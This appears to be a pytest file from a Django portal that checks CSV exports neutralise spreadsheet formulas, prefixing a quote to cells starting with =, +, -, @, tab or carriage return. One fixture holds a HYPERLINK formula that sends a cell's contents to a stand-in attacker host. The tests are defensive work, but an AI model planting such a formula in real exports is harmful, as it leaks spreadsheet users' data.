"""The participant-import template CSV never serves a stored spreadsheet formula as a live cell."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import VillageLibraryFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'


def test_import_template_neutralises_formula_in_library_name(scenario):
    VillageLibraryFactory(name=EVIL, village__district__regency=scenario.kota_jambi)

    response = scenario.client_for("officer").get(
        reverse("meetings:participants_import_template", args=[scenario.meeting.pk])
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert response.status_code == 200
    assert rows[1][-1] == "'" + EVIL


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_prefixes_every_formula_start(start):
    from plm_portal.cells import neutralise

    assert (neutralise(start + "1+1"), neutralise("Perpustakaan " + start)) == (
        "'" + start + "1+1",
        "Perpustakaan " + start,
    )


def test_reports_exports_use_the_same_neutralise():
    from plm_portal import cells
    from reports.exports import cells as export_cells

    assert export_cells.neutralise is cells.neutralise
